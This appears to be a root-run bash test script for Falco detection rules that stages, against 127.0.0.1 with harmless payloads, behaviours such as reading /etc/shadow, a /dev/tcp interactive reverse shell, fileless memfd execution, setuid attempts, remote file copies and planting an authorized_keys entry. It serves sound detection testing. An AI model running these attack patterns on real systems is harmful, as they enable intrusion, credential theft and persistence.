#!/bin/bash
# StockRulesIT, process group: process behaviours the stock Falco rules look for (MODE=attack), or the
# benign behaviour of the same kind for each (MODE=benign). Runs as root.
#   processes.sh attack|benign PYTHON PTRACE_OPS SHELL_PORT HTTP_PORT
# SHELL_PORT: a listener on 127.0.0.1 that plays the attacker's end of a reverse shell; HTTP_PORT: a web
# server on 127.0.0.1. Programs the rules know by name (nginx, gunicorn, postgres, sshd, conmon, xmrig) are
# copies of dash (or links to true) under that name: the rules read the process name, as Falco does.
MODE=$1 PY=$2 PTRACE_OPS=$3 SHELL_PORT=$4 HTTP_PORT=$5
R=$$$RANDOM
T=$(mktemp -d /tmp/vigil-st-XXXXXX)
trap 'for f in "$T" /home/vigil-st-$R; do [ -e "$f" ] && rm -rf "$f"; done' EXIT
attack() { [ "$MODE" = attack ]; }
mkdir "$T/bin"
for n in nginx gunicorn postgres sshd conmon myapp; do cp /bin/dash "$T/bin/$n"; done
# links, not copies: a copy written here and run would be drift ("Drop and execute new binary in container",
# loaded before the miner rule); exec through a link still names the task after the link
ln -s /bin/true "$T/bin/xmrig"; ln -s /bin/true "$T/bin/worker"
B=$T/bin

# Read sensitive file trusted after startup: a server reads /etc/shadow more than 5 s after it started
if attack; then "$B/nginx" -c 'sleep 5.3; read x < /etc/shadow' &
else "$B/nginx" -c 'sleep 5.3; read x < /etc/hostname' & fi

# Run shell untrusted: a shell spawned by a server (not by a shell)
if attack; then "$B/nginx" -c 'sh -c "true; true"'; else "$B/nginx" -c '/bin/true; true'; sh -c 'sh -c "true; true"'; fi

# Web Server Spawned Shell (gunicorn is a web server, not in Run shell untrusted's list)
if attack; then "$B/gunicorn" -c 'sh -c "true; true"'; else "$B/gunicorn" -c '/bin/true; true'; fi

# Web Server Spawned Suspicious Child Process
if attack; then "$B/gunicorn" -c 'whoami; true'; else "$B/gunicorn" -c '/bin/true; true'; fi > /dev/null

# Reverse Shell from Web Server: a real reverse shell to the listener (which sends a command and "exit");
# benign: a plain client connects to the listener, and the web server runs a harmless child
if attack; then
  "$B/gunicorn" -c "timeout 20 bash -c 'HISTFILE=/dev/null bash --norc --noprofile -i >& /dev/tcp/127.0.0.1/$SHELL_PORT 0>&1'; true" 2>/dev/null
else
  bash -c "exec 3<>/dev/tcp/127.0.0.1/$SHELL_PORT; echo hello >&3; head -n 1 <&3 > /dev/null"
  "$B/gunicorn" -c 'timeout 20 sleep 0.01; true'
fi

# DB program spawned process
if attack; then "$B/postgres" -c '/bin/true; true'; else "$B/myapp" -c '/bin/true; true'; fi

# Known Cryptominer Process Executed
if attack; then "$B/xmrig"; else "$B/worker"; fi

# Non sudo setuid (nobody tries setuid(0)) and System user interactive (nobody runs a command below sshd);
# benign: the same drop to nobody outside an ssh session, and "becoming itself" (setuid(65534) as nobody)
DROP='import os, sys
os.setgroups([]); os.setgid(65534); os.setuid(65534)
try:
    os.setuid(int(sys.argv[1]))
except PermissionError:
    pass
os.execv("/bin/true", ["true"])'
if attack; then "$B/sshd" -c "$PY -c '$DROP' 0; true"; else "$B/myapp" -c "$PY -c '$DROP' 65534; true"; fi

# Terminal shell in container (a shell with a terminal, started by a container runtime process);
# benign: the same without a terminal
if attack; then script -qc "$B/conmon -c 'bash -c true; true'" /dev/null; else "$B/conmon" -c 'bash -c true; true'; fi < /dev/null > /dev/null

# Basic Interactive Reconnaissance (whoami in a terminal, leading its process group); benign: ls in a terminal.
# script runs $SHELL -c: "exec" keeps whoami the group leader whether that shell forks (dash) or not (bash)
if attack; then script -qc "exec whoami" /dev/null; else script -qc "exec ls /" /dev/null; fi < /dev/null > /dev/null

# Packet socket created in container
if attack; then "$PY" -c 'import socket; socket.socket(socket.AF_PACKET, socket.SOCK_RAW).close()'
else "$PY" -c 'import socket; socket.socket(socket.AF_INET, socket.SOCK_DGRAM).close()'; fi

# Fileless execution via memfd_create; benign: the same program run from a file
if attack; then "$PY" -c 'import os
fd = os.memfd_create("payload")
os.write(fd, open("/bin/true", "rb").read())
os.execv("/proc/self/fd/%d" % fd, ["payload"])'
else cp /bin/true "$T/payload"; "$PY" -c 'import os, sys; os.execv(sys.argv[1], ["payload"])' "$T/payload"; fi

# PTRACE attached to process, PTRACE anti-debug attempt; benign: PTRACE_PEEKDATA only
if attack; then "$PTRACE_OPS"; else "$PTRACE_OPS" benign; fi > /dev/null 2>&1

# Launch Remote File Copy Tools in Container (scp to a closed port on 127.0.0.1); benign: a local copy
echo data > "$T/f"
if attack; then scp -q -o BatchMode=yes -o StrictHostKeyChecking=no -o ConnectTimeout=3 -P 1 "$T/f" 127.0.0.1:/tmp/ 2>/dev/null
else cp "$T/f" "$T/g"; fi

# Launch Ingress Remote File Copy Tools in Container (wget, curl -o from 127.0.0.1); benign: curl to stdout
if attack; then wget -q -O "$T/w" "http://127.0.0.1:$HTTP_PORT/"; curl -s -o "$T/c" "http://127.0.0.1:$HTTP_PORT/"
else curl -s "http://127.0.0.1:$HTTP_PORT/" > "$T/c"; fi

# Adding ssh keys to authorized_keys, Read ssh information (a user's ~/.ssh); benign: other files of that home
H=/home/vigil-st-$R
mkdir -p "$H/.ssh"
if attack; then echo "ssh-ed25519 AAAA test" > "$H/.ssh/authorized_keys"; cat "$H/.ssh/authorized_keys" > /dev/null
else echo note > "$H/notes.txt"; cat "$H/notes.txt" > /dev/null; fi

wait
echo "processes $MODE done"
